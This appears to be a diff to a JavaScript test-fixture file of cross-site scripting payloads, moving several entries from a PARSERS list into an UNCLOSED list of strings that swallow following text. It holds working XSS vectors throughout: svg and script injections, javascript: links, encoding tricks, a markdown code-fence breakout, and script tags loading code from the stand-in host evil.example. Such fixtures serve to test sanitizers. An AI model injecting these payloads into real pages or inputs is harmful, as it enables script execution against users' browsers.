@@ -174,8 +174,6 @@ export const PARSERS = [
   "<svg/onload=alert(1)//></svg>",
   "<svg><script>alert(1)</script></svg>",
   "<svg><script>alert&#40;1&#41;</script></svg>",
-  "<svg><script href=//evil.example/a.js /></svg>",
-  "<svg><script xlink:href=data:,alert(1) /></svg>",
   "<svg><a xlink:href=javascript:alert(1)><text y=20>a</text></a></svg>",
   "<svg><a href=javascript:alert(1)><circle r=99 /></a></svg>",
   "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>a</text></a></svg>",
@@ -274,11 +272,14 @@ export const PARSERS = [
   "<\u2028script>alert(1)</script>",
   "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
   "\x1b$B<script>alert(1)</script>\x1b(B",
-  "<script>alert(1)</script\u3000>",
 ];
 
 /** Elements that swallow what follows: each is the last of its text. */
 export const UNCLOSED = [
+  "```html\n</span></code></pre><img src=x onerror=alert(1)>",
+  "<svg><script href=//evil.example/a.js /></svg>",
+  "<svg><script xlink:href=data:,alert(1) /></svg>",
+  "<script>alert(1)</script\u3000>",
   "<script>alert(1)",
   "<script src=//evil.example/a.js",
   "<img src=x onerror=alert(1) //",
